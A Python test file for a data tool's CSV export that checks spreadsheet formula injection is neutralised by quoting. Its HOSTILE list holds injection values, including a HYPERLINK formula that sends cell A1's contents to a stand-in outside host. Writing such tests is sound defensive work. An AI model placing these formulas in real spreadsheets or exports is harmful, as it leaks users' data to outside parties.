"""Formula injection (issue 16): text a spreadsheet would run as a formula is exported as text,
unless the export is for a machine (``raw``); numbers and Parquet files are never altered."""

from __future__ import annotations

import pyarrow as pa
import pyarrow.parquet as pq

from regulars.services.exports import export_table, spreadsheet_safe
from regulars.services.imports import import_file

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)")


def test_exported_csv_neutralises_formulas_unless_raw(workspace, tmp_path):
    source = tmp_path / "customers.csv"
    source.write_text(
        "customer_id,email,first_name\n"
        + "".join(
            f'c{i},c{i}@example.org,"{v.replace(chr(34), chr(34) * 2)}"\n'
            for i, v in enumerate(HOSTILE)
        )
        + "c9,c9@example.org,Plain-Name\n"
    )
    import_file(workspace, "customers", source)
    safe = tmp_path / "safe.csv"
    export_table(workspace, "customers", safe)
    text = safe.read_text()
    for value in HOSTILE:
        assert f"'{value}".replace('"', '""') in text, value
    assert "Plain-Name" in text and "'Plain-Name" not in text
    raw = tmp_path / "raw.csv"
    export_table(workspace, "customers", raw, raw=True)
    assert "'=" not in raw.read_text() and "+1+1" in raw.read_text()
    parquet = tmp_path / "all.parquet"
    export_table(workspace, "customers", parquet)
    assert set(HOSTILE) <= set(pq.read_table(parquet)["first_name"].to_pylist())


def test_only_text_cells_are_prefixed():
    rows = pa.table({"n": [-5, 3], "s": ["-5", None], "t": ["\tx", "ok"]})
    safe = spreadsheet_safe(rows)
    assert safe["n"].to_pylist() == [-5, 3]
    assert safe["s"].to_pylist() == ["'-5", None]
    assert safe["t"].to_pylist() == ["'\tx", "ok"]
